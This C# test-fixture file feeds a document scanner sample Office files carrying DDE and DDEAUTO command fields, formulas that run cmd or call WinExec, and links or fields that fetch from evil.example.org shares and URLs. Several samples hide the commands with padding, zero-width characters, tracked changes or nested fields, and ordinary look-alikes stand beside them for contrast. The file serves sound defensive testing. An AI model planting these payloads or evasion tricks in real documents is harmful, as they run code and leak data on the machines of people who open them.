using AreaSend.FileChecks.Tests.Samples;
using static AreaSend.FileChecks.Tests.OddFile;

namespace AreaSend.FileChecks.Tests;

/// <summary>Fields, formulas and links by which a document runs or fetches something, and ordinary ones that look like them.</summary>
internal static class OddFields
{
    private const string Command = "A field or cell in the file would run a command";
    private const string External = "The file draws on something outside it";
    private const string Runs = "A link in the file would start something";
    private const string Macros = "The file contains macros";
    private const string Drawing = "http://schemas.openxmlformats.org/drawingml/2006/main";
    private const string Relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    public static OddFile[] All { get; } =
    [
        Taken("field: ordinary ones", "plan.docx", "every long document has them", FileKind.Docx, () => Docx(Field("TOC \\o") + Field("={PAGE}+1".Replace("{PAGE}", "")) + Within("IF ", "MERGEFIELD a", " = 1") + Field("INCLUDEPICTURE \"cid:image001.png\" \\* MERGEFORMATINET") + Field("HYPERLINK \"https://example.org\""))),
        Taken("field: a sum of a field", "plan.docx", "the last page's number and one", FileKind.Docx, () => Docx(Within("=", "NUMPAGES", "+1"))),
        Refused("field: 70 spaces in a run of their own", "plan.docx", "the command stands in the next run (attack S1-4)", "command", Command, () => Docx(Begin + Code(new string(' ', 70)) + Code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"") + End)),
        Refused("field: 70 runs of one space", "plan.docx", "the same in pieces", "command", Command, () => Docx(Begin + string.Concat(Enumerable.Repeat(Code(" "), 70)) + Code("DDEAUTO cmd") + End)),
        Refused("field: a name with a field in it", "plan.docx", "DD and what comes out of another field", "command", Command, () => Docx(Within("DD", "QUOTE 69", "AUTO cmd"))),
        Refused("field: a name that is the result of a field", "plan.docx", "nothing and what comes out of another field", "command", Command, () => Docx(Within("", "QUOTE DDEAUTO", " cmd"))),
        Refused("field: never ended", "plan.docx", "Word ends it with the document", "command", Command, () => Docx(Begin + Code("DDE cmd"))),
        Refused("field: signs that are not seen", "plan.docx", "a zero-width space within the name", "command", Command, () => Docx(Field("DD\u200BEAUTO cmd"))),
        Refused("field: a simple one", "plan.docx", "the short form", "command", Command, () => Docx("""<w:p><w:fldSimple w:instr="&#160; DDEAUTO cmd"/></w:p>""")),
        Refused("field: a struck out one", "plan.docx", "it comes back with one click", "command", Command, () => Docx(Begin + """<w:p><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:p>""" + End)),
        TwoStories("the branch that Word reads", Choice(Code("PAGE "), Code("DDEAUTO ")) + Code("cmd")),
        TwoStories("a branch that would end the code", Choice(Code("PAGE ") + Mark("separate"), Code("DDEAUTO ")) + Code("cmd")),
        TwoStories("what Word passes over", """<x:y xmlns:x="urn:x">""" + Code("PAGE ") + "</x:y>" + Code("DDEAUTO cmd")),
        TwoStories("what a tracked change takes away", Deleted(Code("PAGE ")) + Code("DDEAUTO cmd")),
        TwoStories("what a tracked move takes away", Deleted(Code("X"), "moveFrom") + Code("DDEAUTO cmd")),
        TwoStories("a mark that a tracked change takes away", Code("DD") + Deleted(Mark("separate")) + Code("EAUTO cmd")),
        TwoStories("code in the result", Code("PAGE ") + Mark("separate") + Code("DDEAUTO cmd")),
        TwoStories("a text box in the code", Code("DD") + Box(Code("PAGE ")) + Code("EAUTO cmd")),
        TwoStories("a text box that would end the code", Code("DD") + Box(Mark("separate")) + Code("EAUTO cmd")),
        Refused("field: begun in a branch", "plan.docx", "and gone on with after it", "command", Command, () => Docx("<w:p>" + Choice(Mark("begin") + Code("DD"), "") + Code("EAUTO cmd") + Mark("end") + "</w:p>")),
        Taken("field: a text box in its result", "plan.docx", "a link around a drawing with a page number in it", FileKind.Docx, () => Docx("<w:p>" + Mark("begin") + Code("HYPERLINK \"https://example.org\"") + Mark("separate") + Choice(Box(Field("PAGE")), "<w:r><w:t>x</w:t></w:r>") + Mark("end") + "</w:p>")),
        Taken("field: struck out whole", "plan.docx", "a tracked change takes a page number away", FileKind.Docx, () => Docx("<w:p>" + Deleted(Mark("begin") + Code("PAGE") + Mark("separate") + Mark("end")) + "</w:p>")),
        Fetches("INCLUDEPICTURE \"\\\\\\\\evil.example.org\\\\a.png\" \\d"),
        Fetches("INCLUDETEXT \"https://evil.example.org/a.docx\""),
        Fetches("LINK Excel.Sheet.8 \"\\\\\\\\evil.example.org\\\\b.xls\" \\a"),
        Fetches("IMPORT file://evil.example.org/a.png"),
        Fetches("RD \"//evil.example.org/c.docx\""),
        Fetches("DATABASE \\c \"DSN=x\""),
        Refused("field: a link that starts a program", "plan.docx", "ms-msdt: in a field", "link-that-runs", Runs, () => Docx(Field("HYPERLINK \"ms-msdt:/id x\""))),
        Refused("mail merge source", "plan.docx", "opening it asks for the list", "mail-merge", "The document is still tied to the list", () => OfficeSample.Docx().Part("word/settings.xml", """<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="Data Source=\\\\evil\\s"/></w:mailMerge></w:settings>""").ToBytes()),
        Refused("slide that runs a program", "plan.pptx", "hovering is enough (2017)", "link-that-runs", Runs, () => Slide("""<a:hlinkMouseOver r:id="rId9" action="ppaction://program"/>""")),
        Refused("slide that opens an address by hovering", "plan.pptx", "nobody clicked", "link-that-runs", Runs, () => Slide("""<a:hlinkMouseOver r:id="rId9" action=""/>""")),
        Refused("slide that runs a macro", "plan.pptx", "a button's action", "link-that-runs", Runs, () => Slide("""<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>""")),
        Taken("slide with a button to the next", "plan.pptx", "an ordinary button", FileKind.Pptx, () => Slide("""<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>""")),
        Refused("link to a program", "plan.pptx", "a target without a scheme, with words for it", "link-that-runs", Runs, () => OfficeSample.Pptx().Relation("hyperlink", "powershell.exe%20-NoP%20-c%20x", isExternal: true).ToBytes()),
        Taken("link to a page that is called like a program", "plan.docx", "a page runs nothing by itself", FileKind.Docx, () => OfficeSample.Docx().Relation("hyperlink", "https://example.org/setup.exe", isExternal: true).ToBytes()),
        Refused("task pane", "list.xlsx", "an add-in that shows itself", "add-in", "The file opens an add-in", () => OfficeSample.Xlsx().Relation("webextensiontaskpanes", "webextensions/taskpanes.xml").Part("xl/webextensions/taskpanes.xml", "<x/>").ToBytes()),
        Refused("ribbon that calls", "plan.docx", "onLoad calls a macro of a template", "macros", Macros, () => OfficeSample.Docx().Part("customUI/customUI.xml", """<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>""").ToBytes()),
        Refused("remote picture in VML", "plan.docx", "not well-formed, so it is searched", "external-link", External, () => OfficeSample.Docx().Part("word/drawings/vmlDrawing1.vml", """<xml><br><v:imagedata src="&#104;ttp://evil.example.org/a.png"/></xml>""").ToBytes()),
        Taken("picture in VML", "plan.docx", "comments of Excel are drawn so", FileKind.Docx, () => OfficeSample.Docx().Part("word/drawings/vmlDrawing1.vml", """<xml><br><v:imagedata o:relid="rId1" src="image1.png"/></xml>""").ToBytes()),
        Refused("remote picture in VML of a page", "plan.docx", "the same inside the document", "external-link", External, () => Docx("""<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example.org\a.png"/></w:p>""")),
        Taken("formulas", "list.xlsx", "a link to a page, a bar in a text, a column with a bar", FileKind.Xlsx, () => Formula("HYPERLINK(\"https://example.org\",\"a|b!\")&amp;Table1[Yes|No]")),
        Refused("formula that runs a command", "list.xlsx", "DDE", "command", Command, () => Formula("cmd|'/C calc'!A0")),
        Refused("formula in wide signs", "list.xlsx", "the same where signs are wide", "command", Command, () => Formula("cmd\uFF5C'/C calc'\uFF01A0")),
        Refused("formula cut by a comment", "list.xlsx", "two texts to a reader of XML, one formula to Excel", "command", Command, () => Formula("cmd<!-- x -->|'/C calc'!A0")),
        Refused("formula that fetches", "list.xlsx", "WEBSERVICE", "external-link", External, () => Formula("_xlfn.WEBSERVICE(\"https://evil.example.org/\"&amp;A1)")),
        Refused("formula that fetches a picture", "list.xlsx", "IMAGE", "external-link", External, () => Formula("_xlfn.IMAGE(\"https://evil.example.org/\")")),
        Refused("formula that calls", "list.xlsx", "CALL", "command", Command, () => Formula("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)")),
        Refused("formula of another book", "list.xlsx", "on a share", "external-link", External, () => Formula("'\\\\evil.example.org\\[x.xlsx]S'!A1")),
        Refused("formula in a name", "list.xlsx", "a name of the workbook", "command", Command, () => OfficeSample.Xlsx(properties: """<definedNames><definedName name="x">cmd|'/C calc'!A0</definedName></definedNames>""").ToBytes()),
        Refused("part in pieces", "list.xlsx", "an interleaved part, which Word puts together", "markup", "The file is built in a way", () => OfficeSample.Xlsx().Part("xl/styles.xml/[0].piece", "<x/>").ToBytes()),
        Refused("part of two types", "plan.docx", "one program takes the first, another the last", "two-readings", "The file contradicts itself", () => OfficeSample.Docx().Part("word/a.xml", "<x/>", "application/xml").Part("word/b.xml", "<x/>", "a/b\"/><Override PartName=\"/word/a.xml\" ContentType=\"c/d").ToBytes()),
    ];

    private static string Begin => """<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>""";

    private static string End => """<w:p><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""";

    private static string Mark(string type) => $"""<w:r><w:fldChar w:fldCharType="{type}"/></w:r>""";

    private static string Choice(string known, string fallback) =>
        $"""<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps">{known}</mc:Choice><mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>""";

    private static string Box(string content) => $"""<w:r><x:txbx xmlns:x="urn:x"><w:txbxContent><w:p>{content}</w:p></w:txbxContent></x:txbx></w:r>""";

    private static string Deleted(string content, string by = "del") => $"<w:{by}>{content}</w:{by}>";

    private static OddFile TwoStories(string name, string code) =>
        Refused("field: " + name, "plan.docx", "two programs would see two fields", "command", Command, () => Docx("<w:p>" + Mark("begin") + code + Mark("separate") + Mark("end") + "</w:p>"));

    private static string Code(string code) => $"""<w:r><w:instrText xml:space="preserve">{System.Security.SecurityElement.Escape(code)}</w:instrText></w:r>""";

    private static string Field(string code) => Begin + Code(code) + End;

    private static string Within(string before, string inner, string after) =>
        Begin.Replace("</w:p>", "") + (before.Length > 0 ? Code(before) : "") + Field(inner).Replace("<w:p>", "").Replace("</w:p>", "") + Code(after) + End.Replace("<w:p>", "");

    private static byte[] Docx(string body) => OfficeSample.Docx(body).ToBytes();

    private static OddFile Fetches(string code) =>
        Refused("field: " + code.Split(' ')[0] + " from elsewhere", "plan.docx", "Word fetches it by itself", "external-link", External, () => Docx(Field(code)));

    private static byte[] Slide(string link) => OfficeSample.Pptx().Part("ppt/slides/slide1.xml", $"""<x xmlns:a="{Drawing}" xmlns:r="{Relations}">{link}</x>""").ToBytes();

    private static byte[] Formula(string formula) => OfficeSample.Xlsx($"""<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>""").ToBytes();
}
